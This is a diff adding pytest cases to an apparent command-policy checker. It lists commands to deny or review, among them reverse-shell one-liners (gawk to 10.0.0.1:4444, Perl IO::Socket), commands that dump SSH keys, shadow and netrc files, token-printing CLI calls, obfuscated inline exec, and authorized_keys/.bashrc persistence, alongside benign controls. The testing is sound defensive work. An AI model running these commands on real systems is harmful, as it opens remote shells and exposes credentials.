@@ -895,6 +895,42 @@ EVERYDAY_SYSTEM_LINES = [
     "docker run -e FOO=/:/host alpine", "docker run --gpus all x",
 ]
 
+@pytest.mark.parametrize("command, action, rule", [
+    *[(c, "review", "review-risky-inline-code") for c in (
+        "python3 -c 'from os import system as x; x(\"id\")'", "python3 -c 'import os; os.posix_spawn(\"/bin/id\", [], {})'",
+        "python3 -c 'import os; getattr(os,\"sys\"+\"tem\")(\"id\")'", "perl -e 'system qw(id)'",
+        "perl -e 'open(F, \"|id\")'", "perl -e 'open(F, \"id |\")'", "ruby -e '%x{id}'", "ruby -e 'Kernel.spawn(\"id\")'",
+        "node -e 'process.binding(\"spawn_sync\")'", "node -e 'require(\"child_\"+\"process\")'")],
+    ("gawk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\"; while(1){s |& getline c; while((c |& getline) > 0) print $0 |& s}}'",
+     "deny", "deny-reverse-shell"),
+    ("perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"h:1\");system$_ while<>;'", "deny", "deny-reverse-shell"),
+    *[(c, "deny", "deny-read-credentials") for c in (
+        "find / -name id_rsa -exec cat {} \\;", "find ~ -name credentials -exec cat {} \\;",
+        "find / -name '*.netrc' | xargs cat", "find / -name shadow -exec base64 {} +", "grep -r . ~/.ssh")],
+    *[(c, "review", "review-bulk-read") for c in (
+        "find ~ -exec cat {} +", "find / -type f -exec cat {} +", "find /home -type f | xargs cat")],
+    *[(c, "review", "review-print-secret") for c in (
+        "kubectl config view --raw", "gh auth token", "gh auth status -t", "gcloud auth print-access-token",
+        "vault read secret/x", "vault kv get secret/x", "az account get-access-token", "heroku auth:token",
+        "git credential fill", "docker-credential-desktop get")],
+    *[(c, "review", "review-persistence") for c in (
+        "cp authorized_keys ~/.ssh", "cp authorized_keys ~/.ssh/", "cp -t ~/.ssh authorized_keys",
+        "cp a authorized_keys /root/.ssh", "cp .bashrc ~", "chmod g+w ~/.bashrc", "chmod 666 ~/.ssh/authorized_keys")],
+])
+def test_inline_code_secrets_and_startup_files(shipped: PolicySet, command: str, action: str, rule: str) -> None:
+    assert_decided(shipped, command, action, rule)
+
+
+EVERYDAY_READ_AND_CODE_LINES = [
+    "cp ~/.bashrc ~/.bashrc.bak", "cp ~/.zshrc /tmp/zshrc.copy", "chmod 600 ~/.ssh/config", "chmod 644 ~/.bashrc",
+    "ls -la ~/.ssh", "cat ~/.ssh/config", "cat ~/.ssh/known_hosts", "sed -n 1p ~/.bashrc", "grep alias ~/.bashrc",
+    "cp FILE ~/.ssh/", "find . -name '*.py' -exec cat {} +", "find . -name id_rsa",
+    "find . -name '*.pem' -exec openssl x509 -noout -in {} \\;", "kubectl config view", "kubectl config get-contexts",
+    "gh auth status", "gcloud auth list", "vault status", "grep -r TODO src/",
+    'python3 -c "import os; print(os.getcwd())"', 'python3 -c "import json,sys; print(json.load(sys.stdin))"',
+    'perl -ne "print if /x/" f', "perl -e 'print qq(hi)'", "ruby -e 'puts 1'", "node -e 'console.log(1)'",
+]
+
 EVERYDAY_PROGRAM_OPTIONS = [
     "sed -n 1,10p f", "sed -i 's/foo/bar/' x.txt", "sed '/^#/d' f", "sed -e 's/x/y/' -e '/^$/d' f", "sed '1i header' f",
     "sed '$a footer' f", "sed -n '/start/,/end/p' f", "sed 'N;s/\\n/ /' f", "sed '1!G;h;$!d' f", "sed = f",
@@ -914,6 +950,7 @@ EVERYDAY_LINES = {
     "cd": EVERYDAY_CD_LINES, "variable": EVERYDAY_VARIABLE_LINES, "wrapper": EVERYDAY_WRAPPER_LINES,
     "read": EVERYDAY_READS, "build": EVERYDAY_BUILD_AND_SHELL_LINES, "download": EVERYDAY_DOWNLOADS,
     "program option": EVERYDAY_PROGRAM_OPTIONS, "database": EVERYDAY_DATABASE_LINES, "system": EVERYDAY_SYSTEM_LINES,
+    "read and code": EVERYDAY_READ_AND_CODE_LINES,
 }
 
 
